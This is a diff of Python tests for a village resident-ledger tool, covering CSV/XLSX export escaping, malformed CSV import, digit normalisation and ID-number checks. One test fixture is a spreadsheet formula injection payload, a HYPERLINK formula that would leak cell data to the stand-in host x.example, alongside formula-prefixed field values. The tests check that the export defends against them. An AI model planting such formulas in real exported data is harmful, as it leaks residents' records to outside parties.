@@ -254,3 +254,79 @@ def test_ledger_excel_is_chinese_by_default_and_english_on_request(demo: Demo) -
 def test_ledger_notes_of_provisional_heads_in_chinese() -> None:
     assert L._note_zh("3 of the heads are provisional until the county confirms them") == "其中 3 人待县级确认"
     assert L._note_zh("a note of the future") == "a note of the future"
+
+
+# -- crafted text, crafted files (issue 11, breaks 5 and 15) -----------------------------------------------
+HYPERLINK = '=HYPERLINK("http://x.example/?"&D2,"点此查看")'
+
+
+def _as_sync_brings(demo: Demo) -> dict[str, str]:
+    """A resident's note, village and household code that start like formulas, as another device may push them;
+    the resident's ID number and the texts."""
+    store = Store.open(demo.db, demo.key)
+    try:
+        r = store.conn.execute("SELECT id, id_number, village_id, household_id FROM resident WHERE id_number "
+                               "IS NOT NULL AND household_id IS NOT NULL ORDER BY id LIMIT 1").fetchone()  # fmt: skip
+        texts = {"note": HYPERLINK, "village": "+村@1", "household": "-H1"}
+        with store.unit(None, "sync.pull") as uow:
+            uow.update("resident", r["id"], {"note": texts["note"]})
+            uow.update("village", r["village_id"], {"name": texts["village"]})
+            uow.update("household", r["household_id"], {"code": texts["household"]})
+        return {"id_number": r["id_number"], **texts}
+    finally:
+        store.close()
+
+
+def test_text_that_starts_like_a_formula_is_exported_as_text(demo: Demo) -> None:
+    crafted = _as_sync_brings(demo)
+    assert demo("export", "residents", "--format", "xlsx", "-o", str(demo.tmp / "r.xlsx"))[0] == 0
+    sheet = load_workbook(demo.tmp / "r.xlsx").worksheets[0]
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == [], "no formula"
+    row = next(r for r in sheet.iter_rows(values_only=True) if r[3] == crafted["id_number"])
+    assert (row[10], row[7], row[8]) == (crafted["note"], crafted["village"], crafted["household"]), "shown as typed"
+
+    assert demo("export", "residents", "--format", "csv", "-o", str(demo.tmp / "r.csv"))[0] == 0
+    fields = next(r for r in _read_csv(demo.tmp / "r.csv") if r[3] == crafted["id_number"])
+    assert (fields[10], fields[7], fields[8]) == ("'" + HYPERLINK, "'+村@1", "'-H1"), "escaped (OWASP)"
+    code, out, err = demo("import", "residents", str(demo.tmp / "r.csv"))
+    assert code == 0 and "imported 0 new residents, updated 0, 301 unchanged" in out, "read back as written" + err
+
+
+def test_a_csv_with_a_quote_never_closed_is_refused_naming_its_line(demo: Demo) -> None:
+    before = demo.counts()
+    (demo.tmp / "q.csv").write_text('姓名,身份证号,备注\r\n王五,11010519491231002X,ok\r\n'
+                                    '赵六,110105198001010016,"他说\r\n钱七,440524199001010018,\r\n', encoding="utf-8")  # fmt: skip
+    code, _, err = demo("import", "residents", str(demo.tmp / "q.csv"))
+    assert code == 3, err
+    assert "line 3: a quote (\") opened in this row is never closed" in err and "[csv_quote]" in err
+    assert demo.counts() == before, "nothing imported"
+    (demo.tmp / "t.csv").write_text('姓名,身份证号,备注\r\n王五,11010519491231002X,"ok"x\r\n', encoding="utf-8")
+    code, _, err = demo("import", "residents", str(demo.tmp / "t.csv"))
+    assert code == 3 and "line 2:" in err and "[csv_quote]" in err, err
+
+
+def test_full_width_digits_in_an_import_are_read_as_ascii_and_other_digits_refused(demo: Demo) -> None:
+    full = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
+    _write_csv(demo.tmp / "f.csv", [["姓名", "身份证号", "手机号"],
+                                    ["王五", "11010519491231002X".translate(full), "13912345678".translate(full)]])  # fmt: skip
+    code, out, err = demo("import", "residents", str(demo.tmp / "f.csv"))
+    assert code == 0 and "imported 1 new" in out, err
+    now = next(r for r in demo.register() if r["name"] == "王五")
+    assert (now["id_number"], now["phone"]) == ("11010519491231002X", "13912345678")
+    _write_csv(demo.tmp / "a.csv", [["姓名", "身份证号", "手机号"], ["赵六", "110105198001010016", "13٩١٢٣٤٥٦٧٨"]])  # today's \d took it
+    code, _, err = demo("import", "residents", str(demo.tmp / "a.csv"))
+    assert code == 3 and "row 2, column 手机号:" in err and "[digits]" in err, err
+
+
+def test_an_id_number_of_no_province_is_refused_and_an_unknown_county_warned(demo: Demo) -> None:
+    code, _, err = demo("resident", "add", "--name", "王五", "--id-number", "000000199001010018")
+    assert code == 3 and "id_number:" in err and "[province]" in err, err
+    code, out, err = demo("resident", "add", "--name", "赵六", "--id-number", "449999199001010019")
+    assert code == 0, err
+    assert "ID number issued in 广东省" in out
+    assert "warning: id_number: the county code 449999 is in no edition of GB/T 2260" in err
+    code, out, err = demo("resident", "add", "--name", "钱七", "--id-number", "440524197001010019")
+    assert code == 0 and "ID number issued in 广东省 潮阳县" in out and "warning" not in err, err
+    _write_csv(demo.tmp / "w.csv", [["姓名", "身份证号"], ["孙八", "449999199002020016"]])
+    code, out, err = demo("import", "residents", str(demo.tmp / "w.csv"))
+    assert code == 0 and "warning: row 2, column 身份证号: the county code 449999" in err, err
